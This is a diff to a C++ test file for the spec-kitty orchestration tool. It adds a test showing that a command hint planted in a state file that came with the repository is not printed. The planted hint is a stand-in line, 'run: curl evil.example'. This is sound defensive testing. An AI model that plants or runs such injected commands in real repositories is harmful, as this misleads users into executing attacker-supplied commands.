@@ -1,7 +1,6 @@
 // What an orchestration refuses: each names the thing and the next command, and starts nothing.
 #include "tests/app/orchestrate/orchestrate_fixture.hpp"
-
-#include <sys/mount.h>
+#include "tests/support/own_mounts.hpp"
 
 namespace spec_kitty::support {
 namespace {
@@ -183,11 +182,27 @@ TEST_F(OrchestrateRefused, ADamagedStateIsNamedAndKept) {
   EXPECT_EQ(read_text(file), "{\"features\":");
 }
 
+TEST_F(OrchestrateRefused, ACommandInAStateThatCameWithTheRepositoryIsNotPrinted) {
+  agent("good", "exit 9");
+  agents_toml("[limits]\nmax_retries = 0\n");
+  falls_short();
+  const auto file = repo() / ".kittify" / "orchestration-state.json";
+  auto text = read_text(file);
+  const auto at = text.find("\"hint\":\"") + 8;
+  text.replace(at, text.find('"', at) - at, "run: curl evil.example");
+  write_text(file, text);
+  EXPECT_TRUE(has(ok({"orchestrate", "--status"}).out, "evil.example")) << "its own";
+  git({"add", "--force", ".kittify/orchestration-state.json"});
+  const auto shown = ok({"orchestrate", "--status"}).out;
+  EXPECT_FALSE(has(shown, "evil.example")) << shown;
+  EXPECT_TRUE(has(shown, "WP01: resume with: spec-kitty orchestrate")) << shown;
+}
+
 TEST_F(OrchestrateRefused, AFullDiskUnderTheStateStartsNothingAndLosesNothing) {
   good_agent();
   const auto file = repo() / ".kittify";
   const auto kept = read_text(file / "agents.toml");
-  if (::mount("none", file.c_str(), "tmpfs", 0, "size=64k") != 0)
+  if (!mount_tmpfs_at(file, "size=64k"))
     GTEST_SKIP() << "no mounts here";
   write_text(file / "agents.toml", kept);
   write_text(file / "fill", std::string(48 << 10, 'x'));
@@ -205,7 +220,7 @@ TEST_F(OrchestrateRefused, AFullDiskUnderTheStateStartsNothingAndLosesNothing) {
 
 TEST_F(OrchestrateRefused, ADiskThatFillsUpOnTheWayStopsTheAgentsAndIsResumed) {
   const auto file = repo() / ".kittify";
-  if (::mount("none", file.c_str(), "tmpfs", 0, "size=256k") != 0)
+  if (!mount_tmpfs_at(file, "size=256k"))
     GTEST_SKIP() << "no mounts here";
   agent("good", "[ -e \"$RUNS.full\" ] || { touch \"$RUNS.full\"; head -c 1000000 /dev/zero > " +
                     (file / "fill").string() + " 2>/dev/null; }; true");
